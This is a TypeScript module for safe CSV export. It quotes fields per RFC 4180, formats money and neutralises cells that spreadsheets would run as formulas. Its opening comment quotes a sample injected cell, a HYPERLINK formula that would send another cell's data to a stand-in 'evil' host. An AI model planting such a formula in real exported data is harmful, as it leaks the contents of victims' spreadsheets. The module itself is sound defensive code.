// What a cell of an exported file holds. Spreadsheet programs run a cell that starts with
// = + - @ (and, per OWASP, a tab or a carriage return that they strip first) as a formula: a
// customer's name typed as =HYPERLINK("http://evil/?"&A1,"click") would run on the exporter's
// machine. Such a cell gets a leading apostrophe, which Excel and LibreOffice show as text.

const FORMULA_START = /^[=+\-@\t\r]/;

/** The cell's text, made inert when a spreadsheet would read it as a formula. */
export function neutralize(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** RFC 4180: a field with a comma, a quote or a line break is quoted, its quotes doubled. */
export function csvField(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One CSV record (CRLF-terminated), each cell neutralized then quoted. */
export function csvLine(cells: readonly string[]): string {
  return `${cells.map((cell) => csvField(neutralize(cell))).join(',')}\r\n`;
}

/** A presented value as text: lists joined, money in major units with its currency, other objects as JSON. */
export function cellText(value: unknown): string {
  if (value === undefined || value === null) return '';
  if (typeof value === 'string') return value;
  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
  if (Array.isArray(value)) return value.map(cellText).join('; ');
  const { amount, currency } = value as { amount?: unknown; currency?: unknown };
  if (typeof amount === 'number' && typeof currency === 'string') {
    // Money is kept in minor units: 12000 CNY is 120.00 CNY.
    const digits = new Intl.NumberFormat('en', { style: 'currency', currency }).resolvedOptions().maximumFractionDigits ?? 2;
    return `${(amount / 10 ** digits).toFixed(digits)} ${currency}`;
  }
  return JSON.stringify(value);
}
